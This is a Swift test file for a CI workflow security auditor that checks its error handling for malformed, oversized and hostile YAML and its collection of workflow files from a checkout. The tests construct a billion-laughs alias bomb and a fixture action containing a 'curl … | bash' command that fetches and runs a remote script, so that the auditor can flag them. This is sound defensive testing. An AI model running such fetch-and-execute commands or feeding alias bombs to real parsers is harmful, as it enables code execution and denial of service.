import Foundation
import Testing
import TollgateAudit
import TollgateModel

/// Hostile, malformed and oversized inputs get specific errors; directories are collected as checkouts.
@Suite struct AuditInputTests {
    private func error(_ yaml: String, file: String = "workflow.yml") -> AuditError? {
        do {
            _ = try SourceAuditor().audit(file: file, bytes: Array(yaml.utf8))
            return nil
        } catch {
            return error
        }
    }

    @Test("invalid YAML is audit.invalid-yaml with libyaml's line and column, exit 3")
    func invalidYAML() {
        let failure = error("on: push\njobs:\n  a: [unclosed\n")
        #expect(failure?.kind == .invalidYAML)
        #expect(failure?.reason.contains("workflow.yml: invalid YAML: line ") == true)
        #expect(failure?.exitStatus == .invalidInput)
    }

    @Test("a YAML list, an empty file and a mapping without jobs or runs are not workflows")
    func notWorkflows() {
        #expect(error("- a\n- b\n")?.kind == .invalidWorkflow)
        #expect(error("")?.kind == .invalidWorkflow)
        #expect(error("on: push\nname: x\n")?.kind == .invalidWorkflow)
    }

    @Test("a billion-laughs document is refused by the node budget before any rule walks it")
    func aliasBomb() {
        var yaml = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
        for level in 1...9 {
            yaml += "a\(level): &a\(level) [" + Array(repeating: "*a\(level - 1)", count: 10).joined(separator: ", ") + "]\n"
        }
        yaml += "jobs: *a9\non: push\n"
        #expect(error(yaml)?.kind == .tooLarge)
    }

    @Test("deep nesting and files over 1 MiB are audit.too-large")
    func limits() {
        let deep = "jobs: " + String(repeating: "[", count: 100) + String(repeating: "]", count: 100) + "\non: push\n"
        #expect(error(deep)?.kind == .tooLarge)
        let big = "on: push\njobs: {}\n# " + String(repeating: "x", count: 1 << 20) + "\n"
        #expect(error(big)?.kind == .tooLarge)
    }

    @Test("a checkout's workflows, actions and GitLab file are found and named relative to it")
    func checkoutCollection() throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("tollgate-audit-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: root) }
        let workflows = root.appendingPathComponent(".github/workflows")
        let action = root.appendingPathComponent(".github/actions/setup")
        try FileManager.default.createDirectory(at: workflows, withIntermediateDirectories: true)
        try FileManager.default.createDirectory(at: action, withIntermediateDirectories: true)
        try Data(AuditFixture.bytes("workflows/workflow-write-all.yml")).write(to: workflows.appendingPathComponent("ci.yml"))
        try Data("runs:\n  using: composite\n  steps:\n    - run: curl https://x.example/i.sh | bash\n      shell: bash\n".utf8)
            .write(to: action.appendingPathComponent("action.yml"))
        try Data(AuditFixture.bytes("gitlab/deckhouse-simple-module.gitlab-ci.yml")).write(to: root.appendingPathComponent(".gitlab-ci.yml"))
        try Data("not: audited\n".utf8).write(to: root.appendingPathComponent("other.yml"))

        let report = try SourceAuditor().audit(paths: [root.path])
        #expect(report.files.map(\.path) == [
            root.path + "/.github/workflows/ci.yml", root.path + "/.github/actions/setup/action.yml", root.path + "/.gitlab-ci.yml",
        ])
        #expect(report.files.map(\.kind) == [.githubWorkflow, .githubAction, .gitlabCI])
        #expect(report.summary.findings == 6)
        #expect(report.findings.contains { $0.rule == .codeownersMissing })
        #expect(report.findings.first { $0.rule == .curlPipeShell }?.line == 4)
    }

    @Test("a missing path and an empty directory are errors, not clean reports")
    func nothingToAudit() throws {
        #expect(throws: AuditError.self) { try SourceAuditor().audit(paths: ["/nonexistent/tollgate-audit"]) }
        let empty = FileManager.default.temporaryDirectory.appendingPathComponent("tollgate-audit-empty-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: empty, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: empty) }
        do {
            _ = try SourceAuditor().audit(paths: [empty.path])
            Issue.record("an empty directory was reported clean")
        } catch {
            #expect(error.kind == .noInput)
        }
    }
}
